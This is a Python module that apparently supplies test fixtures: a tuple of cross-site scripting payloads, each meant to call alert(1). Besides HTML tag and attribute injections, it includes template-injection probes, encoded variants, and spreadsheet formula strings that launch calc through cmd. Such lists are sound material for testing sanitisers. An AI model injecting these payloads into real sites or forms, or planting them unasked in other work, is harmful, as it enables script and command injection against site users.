"""Texts that become code where a page takes them for more than text. Each calls alert(1) if it runs."""

from __future__ import annotations

_ELEMENTS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=data:text/javascript,alert(1)></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text x=20 y=20>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=javascript:alert(1)//>",
    "<template><script>alert(1)</script></template>",
    "<div hx-get=/ hx-trigger=load hx-on:click=alert(1)>x</div>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
)
_LOOSE = (
    "javascript:alert(1)",
    "{{constructor.constructor('alert(1)')()}}",
    "{{ 7 * 7 }}{% print(7*7) %}",
    "${alert(1)}",
    "<%= alert(1) %>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\u2028alert(1)\u2029",
    '=HYPERLINK("javascript:alert(1)")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "[x](javascript:alert(1))",
    "`<img src=x onerror=alert(1)>`",
    '<b>bold</b><a href="https://example.invalid">link</a>',
)
_BREAKS = ('"', "'", '">', "'>", "</title>", "</script>", "-->", "]]>", "</textarea>", "` ")

PAYLOADS: tuple[str, ...] = (
    *_ELEMENTS,
    *_LOOSE,
    *(breaking + element for breaking in _BREAKS for element in (_ELEMENTS[0], _ELEMENTS[3], _ELEMENTS[6])),
    *(f"{breaking} onmouseover=alert(1) autofocus onfocus=alert(1) x=" for breaking in _BREAKS),
    *(f"{breaking} style=animation-name:x onanimationstart=alert(1) x=" for breaking in _BREAKS),
    *(f"java{gap}script:alert(1)" for gap in ("\t", " ", "&Tab;", "&#9;", "\x01")),
)
